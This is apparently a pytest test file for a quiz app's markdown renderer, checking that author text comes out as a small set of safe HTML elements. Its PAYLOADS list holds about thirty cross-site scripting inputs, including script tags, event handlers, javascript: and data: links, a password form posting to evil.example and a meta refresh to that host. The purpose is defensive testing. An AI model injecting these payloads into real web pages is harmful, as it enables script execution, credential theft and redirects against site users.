"""Authors' texts become a little safe HTML; whatever else they hold is shown as it was written."""

import os
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.effort import calls
from support.hostile import MARKDOWN

from quizapp.web.markdown import block, inline, maths

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/logout)",
    "![x](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "`<b>`",
    "*<b onclick=alert(1)>*",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$</math><script>alert(1)</script>$",
    "$x$<style>*{color:red}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
]
TAGS = {
    *("em", "strong", "code", "a", "br", "s", "span", "p", "ul", "ol", "li", "blockquote", "pre", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td", "math", "menclose", "merror", "mfrac", "mi", "mmultiscripts", "mn"),
    *("mo", "mover", "mpadded", "mphantom", "mprescripts", "mroot", "mrow", "ms", "mspace", "msqrt", "mstyle", "msub"),
    *("msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover"),
}

MOST_CALLS = 500
"""Of functions, a character: the worst text needs 110, and one that is read anew at each mark needs thousands."""


def more(name: str) -> list[str]:
    """Read more hostile files where a folder of them is named."""
    folder = os.environ.get("QUIZAPP_HOSTILE")
    if not folder:
        return []
    if name == "markdown":
        return [path.read_text(encoding="utf-8") for path in sorted((Path(folder) / name).iterdir())]
    text = (Path(folder) / "lists" / name).read_text(encoding="utf-8")
    return re.findall(r'"payload": "((?:[^"\\]|\\.)*)"', text)


class Inspector(HTMLParser):
    """Fails on any element or attribute that is not meant to come out."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in {"style", "src", "class", "id", "srcdoc", "action"}, name
            if name == "href":
                assert tag == "a"
                assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), value
        if tag == "a" and dict(attrs).get("href"):
            assert dict(attrs)["rel"] == "noopener nofollow"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def inspect(html: str) -> None:
    parser = Inspector()
    parser.feed(html)
    parser.close()


@pytest.mark.parametrize("payload", [*PAYLOADS, *more("xss_dompurify.json")])
def test_nothing_that_runs_comes_out(payload: str) -> None:
    for text in (payload, f"so {payload} there", f"*{payload}*", f"- {payload}\n- {payload}"):
        inspect(inline(text))
        inspect(inline(text, "en"))
        inspect(block(text))


@given(st.text(alphabet="ab <>&\"'`*_[]()!$\\{}|-#~\n\t:/;=\x01", max_size=60))
def test_whatever_is_written_only_known_marks_come_out(text: str) -> None:
    inspect(inline(text))
    inspect(block(text))


@given(
    st.text(alphabet=st.characters(exclude_characters="\\`*_[]&$~<>\n\r\t\"'\0", exclude_categories=["Cs", "Zs", "Cc"]))
)
def test_a_plain_text_stays_as_it_is(text: str) -> None:
    assert inline(text) == text


@pytest.mark.parametrize("text", [*MARKDOWN, *more("markdown")])
def test_a_hostile_text_becomes_known_marks_by_a_few_calls_a_character(text: str) -> None:
    for render in (inline, block):
        assert _work(render, text) < MOST_CALLS * (len(text) + 1)
        inspect(render(text))


def test_html_is_shown_as_text() -> None:
    assert inline("a <b>bold</b> claim") == "a &lt;b&gt;bold&lt;/b&gt; claim"


def test_marks_become_elements() -> None:
    assert inline("*one* **two** `x < y`") == "<em>one</em> <strong>two</strong> <code>x &lt; y</code>"


def test_a_link_leads_out_without_a_way_back() -> None:
    assert inline("[site](https://example.org/a?b=c)") == (
        '<a href="https://example.org/a?b=c" rel="noopener nofollow">site</a>'
    )


def test_a_gap_and_a_blank_line_in_a_stem_stay() -> None:
    assert inline("The ___ is ___.") == "The ___ is ___."


def test_prices_are_not_maths() -> None:
    for text in ("between $5 and $10", "costs $5-$10", "a $ alone", "US$ 5 or US$ 6", r"\$5 and 6$"):
        assert "<math" not in inline(text), text


def test_maths_is_set() -> None:
    assert inline(r"so $\frac{a}{b}$") == "so <math><mfrac><mi>a</mi><mi>b</mi></mfrac></math>"


def test_maths_that_cannot_be_set_is_shown_as_written() -> None:
    assert inline(r"so $\nosuchthing{x}$") == r"so $\nosuchthing{x}$"
    assert maths("x" * 2000) == f"${'x' * 2000}$"


def test_a_colour_in_maths_leaves_no_style() -> None:
    assert "style" not in inline(r"$\color{red}x$")


def test_a_text_names_its_language() -> None:
    assert inline("hei", "fi") == '<span lang="fi">hei</span>'
    assert inline("x", '"><script>') == '<span lang="&#34;&gt;&lt;script&gt;">x</span>'
    assert inline("", "fi") == ""


def test_a_longer_text_has_paragraphs_lists_and_tables() -> None:
    html = block("One.\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |")
    for part in ("<p>One.</p>", "<li>a</li>", "<th>x</th>", "<td>2</td>"):
        assert part in html


def test_a_heading_mark_makes_no_heading() -> None:
    assert block("# Big") == "<p># Big</p>"


def _work(render: Callable[[str], str], text: str) -> int:
    """Count the calls of a rendering that nothing is remembered of."""
    for remembering in (inline, block, maths):
        remembering.cache_clear()
    return calls(lambda: render(text))
